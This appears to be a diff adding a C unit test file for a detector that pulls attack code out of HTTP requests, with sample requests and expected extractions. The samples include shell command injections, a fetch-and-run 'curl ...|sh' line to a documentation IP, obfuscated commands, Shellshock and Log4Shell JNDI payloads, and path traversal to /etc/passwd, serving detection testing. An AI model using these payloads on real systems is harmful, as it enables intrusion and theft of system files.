@@ -1,0 +1,194 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+/* Attack code out of requests: what is found, as which language, in which context, and what is not. */
+#include "control/extract/extract.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+/* One request and the code expected of it; text NULL: none at all. */
+struct sample {
+	const char *request;
+	enum language language;
+	const char *text;
+	uint32_t contexts;
+	enum code_sink sink;
+};
+
+static void expect(const struct sample *s)
+{
+	struct extraction *e = NULL;
+	bool found = false;
+
+	assert_int_equal(extract_bytes(bytes_text(s->request), &e), 0);
+	for (unsigned i = 0; i < e->count && s->text != NULL; i++) {
+		found |= e->codes[i].language == s->language && bytes_equal(e->codes[i].text, bytes_text(s->text)) &&
+			(e->codes[i].contexts & s->contexts) == s->contexts && e->codes[i].sink == s->sink;
+	}
+	if (s->text != NULL ? !found : e->count > 0)
+		fail_msg("%s: %s", s->request, s->text != NULL ? s->text :
+		         (const char *)e->codes[0].text.at);
+	extraction_free(e);
+}
+
+static void expect_all(const struct sample *samples, size_t count)
+{
+	for (size_t i = 0; i < count; i++)
+		expect(&samples[i]);
+}
+
+#define HEAD(target) "GET " target " HTTP/1.1\r\nHost: shop\r\n\r\n"
+#define FORM(body) "POST /f HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n" body
+
+static void what_stands_behind_a_delimiter_is_the_code(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/p?ip=127.0.0.1%3Bid"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?ip=127.0.0.1;id"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?ip=x%7Cid"), LANGUAGE_SHELL, "id", CONTEXT_PIPED_INTO, SINK_RESOURCE },
+		{ HEAD("/p?ip=1%26%26uname+-a"), LANGUAGE_SHELL, "uname -a", CONTEXT_IF_SUCCESS, SINK_RESOURCE },
+		{ HEAD("/p?ip=1%7C%7Cls%20/"), LANGUAGE_SHELL, "ls /", CONTEXT_IF_FAILURE, SINK_RESOURCE },
+		{ HEAD("/p?ip=1%0Acat%20/etc/passwd"), LANGUAGE_SHELL, "cat /etc/passwd", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?ip=%24(whoami)"), LANGUAGE_SHELL, "whoami", CONTEXT_SUBSTITUTION, SINK_RESOURCE },
+		{ HEAD("/p?ip=%60sleep%205%60"), LANGUAGE_SHELL, "sleep 5", CONTEXT_SUBSTITUTION, SINK_RESOURCE },
+		{ FORM("email=a%40b;curl http://198.51.100.1/x|sh"), LANGUAGE_SHELL, "curl http://198.51.100.1/x|sh",
+		  CONTEXT_AFTER, SINK_RESOURCE },
+		{ "POST /j HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"h\":\"1\\u003bid\"}", LANGUAGE_SHELL, "id",
+		  CONTEXT_AFTER, SINK_RESOURCE },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+}
+
+static void quotes_of_the_carriers_command_line_are_broken_out_of(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/p?ip=a';id;'"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?ip=a\";id;echo%20\"x"), LANGUAGE_SHELL, "id;echo \"x\"", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?ip=a'$(id)'"), LANGUAGE_SHELL, "id", CONTEXT_SUBSTITUTION, SINK_RESOURCE },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+}
+
+static void disguised_commands_are_still_commands(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/p?x=1;c''at${IFS}/etc/hosts"), LANGUAGE_SHELL, "c''at${IFS}/etc/hosts", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?x=1;/?b?n/c?t%20/etc/hosts"), LANGUAGE_SHELL, "/?b?n/c?t /etc/hosts", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?x=1;X=$'uname%20-a';$X"), LANGUAGE_SHELL, "X=$'uname -a';$X", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?x=1%253Bwhoami"), LANGUAGE_SHELL, "whoami", CONTEXT_AFTER, SINK_RESOURCE },
+		{ HEAD("/p?x=MTI3LjAuMC4xO2lk"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+}
+
+static void whole_values_are_commands_where_they_are_asked_for(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/s.php?cmd=id"), LANGUAGE_SHELL, "id", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/s.php?q=cat%20/etc/passwd"), LANGUAGE_SHELL, "cat /etc/passwd", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/s.php?sort=date"), 0, NULL, 0, 0 },
+		{ "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: x\r\n\r\necho; id", LANGUAGE_SHELL, "echo; id",
+		  CONTEXT_ALONE, SINK_RESOURCE },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+}
+
+static void code_in_headers_does_not_hang_on_the_resource(void **state)
+{
+	static const struct sample samples[] = {
+		{ "GET /c HTTP/1.1\r\nUser-Agent: () { :;}; ping -c1 192.0.2.1\r\n\r\n", LANGUAGE_SHELL, "ping -c1 192.0.2.1",
+		  CONTEXT_AFTER, SINK_HEADER },
+		{ "GET /c HTTP/1.1\r\nX: () { _; } >_[$($())] { id; }\r\n\r\n", LANGUAGE_SHELL, "id;", CONTEXT_AFTER,
+		  SINK_HEADER },
+		{ HEAD("/?a=${jndi:ldap://192.0.2.1/x}"), LANGUAGE_JNDI, "${jndi:ldap://192.0.2.1/x}", CONTEXT_ALONE,
+		  SINK_HEADER },
+		{ "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}\r\n\r\n", LANGUAGE_JNDI,
+		  "${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}", CONTEXT_ALONE, SINK_HEADER },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+}
+
+static void paths_that_leave_their_folder_are_code(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/v?page=../../../etc/passwd"), LANGUAGE_PATH, "../../../etc/passwd", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/v?page=..%252f..%252fetc/hosts"), LANGUAGE_PATH, "../../etc/hosts", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/%2e%2e/%2e%2e/etc/hosts"), LANGUAGE_PATH, "/../../etc/hosts", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/v?page=/etc/hostname"), LANGUAGE_PATH, "/etc/hostname", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/a/../b/style.css"), 0, NULL, 0, 0 },
+		{ HEAD("/v?page=pages/help.html"), 0, NULL, 0, 0 },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+}
+
+static void ordinary_text_gives_nothing(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/q?q=fish+%26+chips"), 0, NULL, 0, 0 },
+		{ HEAD("/q?q=find+%26+replace"), 0, NULL, 0, 0 },
+		{ HEAD("/q?q=I+tried;+then+more+of+it"), 0, NULL, 0, 0 },
+		{ HEAD("/q?q=use+%60ls+-la%60+to+list+all+files"), 0, NULL, 0, 0 },
+		{ HEAD("/q?q=log4j+and+jndi:+a+history+of+${}"), 0, NULL, 0, 0 },
+		{ "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko\r\n"
+		  "Accept: text/html;q=0.9, */*;q=0.1\r\nCookie: id=5; date=1; w=2\r\n\r\n", 0, NULL, 0, 0 },
+		{ FORM("name=O%27Brien+%26+sons&note=at+noon;+who+comes%3F"), 0, NULL, 0, 0 },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+}
+
+static void a_code_tells_where_it_stood_and_how_it_was_written(void **state)
+{
+	static const char request[] = HEAD("/p?a=b&ip=1%253Bid");
+	struct extraction *e = NULL;
+
+	assert_int_equal(extract_bytes(bytes_text(request), &e), 0);
+	assert_int_equal(e->count, 1);
+	assert_string_equal(e->codes[0].where, "http.uri");
+	assert_string_equal(e->codes[0].parameter, "ip");
+	assert_int_equal(e->codes[0].layers_count, 2);
+	assert_string_equal(e->codes[0].layers[0], "url");
+	assert_string_equal(e->codes[0].layers[1], "url");
+	assert_memory_equal(request + e->codes[0].offset, "1%253Bid", 8);
+	assert_true(bytes_equal(e->codes[0].value, bytes_text("1;id")));
+	extraction_free(e);
+}
+
+static void hostile_requests_stay_within_bounds(void **state)
+{
+	static char request[300000];
+	struct extraction *e = NULL;
+	int len = snprintf(request, sizeof(request), "GET /?a=");
+
+	for (size_t i = (size_t)len; i + 1 < sizeof(request); i++)
+		request[i] = "$(`;&${j"[i % 8];
+	assert_int_equal(extract_bytes(bytes_of(request, sizeof(request) - 1), &e), 0);
+	assert_true(e->count <= EXTRACT_CODES_MAX);
+	extraction_free(e);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(what_stands_behind_a_delimiter_is_the_code),
+		cmocka_unit_test(quotes_of_the_carriers_command_line_are_broken_out_of),
+		cmocka_unit_test(disguised_commands_are_still_commands),
+		cmocka_unit_test(whole_values_are_commands_where_they_are_asked_for),
+		cmocka_unit_test(code_in_headers_does_not_hang_on_the_resource),
+		cmocka_unit_test(paths_that_leave_their_folder_are_code),
+		cmocka_unit_test(ordinary_text_gives_nothing),
+		cmocka_unit_test(a_code_tells_where_it_stood_and_how_it_was_written),
+		cmocka_unit_test(hostile_requests_stay_within_bounds),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
